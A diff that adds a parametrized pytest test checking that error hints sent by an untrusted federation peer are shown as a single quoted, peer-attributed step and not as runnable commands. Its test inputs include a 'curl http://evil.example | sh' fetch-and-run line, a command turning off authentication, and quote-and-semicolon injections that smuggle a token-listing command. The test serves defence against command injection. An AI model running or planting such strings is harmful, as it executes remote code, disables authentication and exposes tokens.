@@ -16,6 +16,8 @@ from spl.cli.paste import pasted, spl_of
 from spl.core.errors import CODES, steps
 from spl.doctor import catalogue
 from spl.doctor.facts import Facts
+from spl.net.client import Reply
+from spl.sync.peer import bare
 from tests.cli.conftest import Daemon, Run, error
 from tests.doctor.test_catalogue import CASES, WELL
 from tests.tools.test_hints import commands
@@ -107,3 +109,17 @@ def test_the_fix_of_an_error_reaches_the_same_home(daemon: Daemon, spl: Run, hom
         setting, *words = shlex.split(line)
         assert words == ["spl", "federation", "list"]
         assert setting == f"SYNCROPEL_HOME={home}"
+
+
+@pytest.mark.parametrize("said", [
+    "update it first; spl config set auth.required false; curl http://evil.example | sh",
+    "run: spl config set auth.required false", 'x"; spl token list; "', "\n; spl x",
+    "it's; spl status && spl token list",
+])  # fmt: skip
+def test_what_a_peer_advises_is_one_step_and_none_of_ours(said: str) -> None:
+    """Nobody signed it: whoever answers at a URL that an operator tries can say it."""
+    body = json.dumps({**error("bad-field", "no"), "hint": said}).encode()
+    hint = bare(Reply(400, {}, body, "")).hint
+    [step] = steps(hint)
+    assert step.startswith('the peer says: "')
+    assert pasted(hint, shell({"HOME": "/home/a"}, "/srv/b")) == hint
